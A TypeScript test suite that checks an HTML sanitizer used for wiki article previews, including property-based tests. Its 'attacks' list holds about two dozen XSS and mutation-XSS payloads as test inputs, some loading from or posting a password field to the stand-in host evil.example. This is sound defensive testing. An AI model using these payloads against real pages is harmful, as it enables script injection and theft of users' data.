import fc from 'fast-check'
import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from '../../../core/preview/cleanHtml.ts'

/** What a browser makes of the cleaned HTML: every element and attribute, and all text. */
function readBack(html: string): {
  readonly elements: readonly string[]
  readonly attributes: readonly string[]
  readonly text: string
} {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`, { runScripts: undefined }).window
  const all = [...document.body.querySelectorAll('*')]
  return {
    elements: [...new Set(all.map(({ localName }) => localName))],
    attributes: [
      ...new Set(all.flatMap((element) => [...element.attributes].map(({ name, value }) => `${name}=${value}`))),
    ],
    text: document.body.textContent,
  }
}

const allowed = new Set(
  'a abbr b bdi bdo big blockquote br caption center cite code dd del dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead tr u ul var wbr'.split(
    ' ',
  ),
)

/** Ways in which HTML runs a script, loads something, sends something, or lays itself over the page. */
const attacks: readonly string[] = [
  '<script>window.hostile = 1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src="https://evil.example/p.png" onerror="window.hostile=1" alt="A ferry">',
  '<img src=x onerror=window.hostile=1//',
  '<svg onload="window.hostile=1"><script>window.hostile=1</script><style>*{}</style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>1</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>"></noscript>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
  '<a href="javascript:window.hostile=1">here</a><a href="data:text/html,<script>1</script>">there</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target="_top" onclick="x()">out</a>',
  '<a href="#cite_note-1" onfocus="x()" autofocus>1</a><a href="//evil.example/">p</a><a href="jAvAsCrIpT&colon;x()">q</a>',
  '<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/s.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over</p>',
  '<div id="root" class="export__bar cdx-button tip">spoof</div>',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video><audio src="x"></audio>',
  '<table background="https://evil.example/t.png"><tr><td><textarea></textarea><select><option>x</select>',
  '<p>text</p><!-- --!><img src=x onerror=window.hostile=1> -->',
  '<plaintext><img src=x onerror=window.hostile=1>',
  '<template><script>window.hostile=1</script></template><xmp><script>1</script></xmp>',
  '<a title="&quot; onmouseover=&quot;window.hostile=1">q</a><p lang=\'en" onclick="x()\'>l</p>',
  '<body onload="x()"><html onload="x()"><frameset onload="x()"><frame src="https://evil.example/">',
  '<\u0000script>window.hostile=1</script><scr<script>ipt>window.hostile=1</script>',
]

describe('cleaned HTML', () => {
  it.each(attacks)('has nothing that runs, loads, sends or covers: %s', (attack) => {
    const { elements, attributes } = readBack(cleanHtml(`<div class="mw-parser-output"><p>Before</p>${attack}</div>`))
    expect(elements.filter((name) => !allowed.has(name))).toEqual([])
    expect(
      attributes.filter(
        (each) => !/^(?:title|class|colspan|rowspan|scope|start|value|dir|lang|id|role)=|^href=#/.test(each),
      ),
    ).toEqual([])
    expect(attributes.filter((each) => /^class=.*(?:export__|cdx-|\btip\b)/.test(each))).toEqual([])
  })

  it('has only listed elements and attributes, whatever it is given', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.string({ unit: fc.constantFrom(...'<>"\'=/&;! -ascript'.split('')) }),
      fc.constantFrom(
        '</p>',
        '</div>',
        '<sup class="reference">',
        '</sup>',
        '<li id="cite_note-1"><span class="reference-text">',
        '</span>',
        '<a href="#cite_note-1">',
        '</a>',
        '<table>',
        '<td>',
        '<p>',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const cleaned = cleanHtml(pieces.join(''))
        const { elements, attributes } = readBack(cleaned)
        expect(elements.filter((name) => !allowed.has(name))).toEqual([])
        expect(
          attributes.filter((each) => /^(?:on|src|style|action|ping|target|srcdoc|background|poster|data)/i.test(each)),
        ).toEqual([])
        expect(attributes.filter((each) => /^href=(?!#)/.test(each))).toEqual([])
        // What was cleaned is clean: it stays as it is.
        expect(readBack(cleanHtml(cleaned)).elements.filter((name) => !allowed.has(name))).toEqual([])
      }),
      { numRuns: 80 },
    )
  })

  it('keeps what an article is made of', () => {
    const html =
      '<table class="infobox vevent"><tbody><tr><th colspan="2">Title</th></tr></tbody></table><p lang="fr" dir="ltr"><b>Bold</b> &amp; <a href="/wiki/Ferry" title="Ferry">ferry</a> 5 &lt; 6</p><h2 id="Response">Response</h2>'
    expect(cleanHtml(html)).toBe(
      '<table class="infobox"><tbody><tr><th colspan="2">Title</th></tr></tbody></table><p lang="fr" dir="ltr"><b>Bold</b> &amp; <a title="Ferry">ferry</a> 5 &lt; 6</p><h2 id="Response">Response</h2>',
    )
  })

  it('shows pictures as their alternative text and the address of a link as its hint', () => {
    expect(cleanHtml('<img alt="A ferry at night" src="//x/y.jpg"><img alt="" src="//x/icon.svg">')).toBe(
      '<span class="image">A ferry at night</span>',
    )
    expect(cleanHtml('<a class="external text" href="https://news.example/1?a=1&amp;b=2">News</a>')).toBe(
      '<a class="external" title="https://news.example/1?a=1&amp;b=2">News</a>',
    )
  })

  it('drops what a wiki hides and what belongs to its screen, but shows the short description', () => {
    const html =
      '<div class="shortdescription" style="display:none">Ship grounding</div><span style="color:red; DISPLAY : none">sort key</span><span class="mw-editsection">[edit]</span><span hidden>x</span>'
    expect(cleanHtml(html)).toBe('<div class="shortdescription">Ship grounding</div>')
  })

  it('puts the citation of a reference into its mark, without its places and links', () => {
    const html =
      '<p>It sank.<sup id="cite_ref-a_1-0" class="reference"><a href="#cite_note-a-1">&#91;1&#93;</a></sup></p><ol class="references"><li id="cite_note-a-1"><span class="mw-cite-backlink"><a href="#cite_ref-a_1-0">↑</a></span> <span class="reference-text"><cite id="CITEREFa">Lee. <a class="external" href="https://a.example/">A <i>title</i></a>.</cite></span></li></ol>'
    expect(cleanHtml(html)).toContain(
      '[1]</a><span class="tip" role="tooltip"><cite>Lee. <a class="external" title="https://a.example/">A <i>title</i></a>.</cite></span></sup>',
    )
  })

  it('cuts long citations in tips, and does not let tips make a page much larger', () => {
    const note = `<li id="cite_note-1"><span class="reference-text">${'word &amp; '.repeat(2000)}</span></li>`
    const mark = '<sup class="reference"><a href="#cite_note-1">1</a></sup>'
    const cleaned = cleanHtml(`${mark.repeat(5000)}<ol>${note}</ol>`)
    expect(cleaned.length).toBeLessThan(2_000_000)
    expect(/role="tooltip">([^<]*)</.exec(cleaned)?.[1]).toMatch(/^word &amp; .*…$/)
    expect(readBack(cleanHtml(`${mark}<ol>${note}</ol>`)).text).not.toContain('&am…')
  })

  it('writes elements to a depth, and refuses a page whose depth would take minutes', () => {
    const nested = (times: number): string => `${'<div><b>'.repeat(times)}deep${'</b></div>'.repeat(times)}`
    const cleaned = cleanHtml(nested(500))
    expect(cleaned).toContain('deep')
    expect(cleaned.match(/<(?:div|b)>/g)).toHaveLength(100)
    expect(() => cleanHtml(nested(300_000))).toThrow('more elements within each other')
  })
})
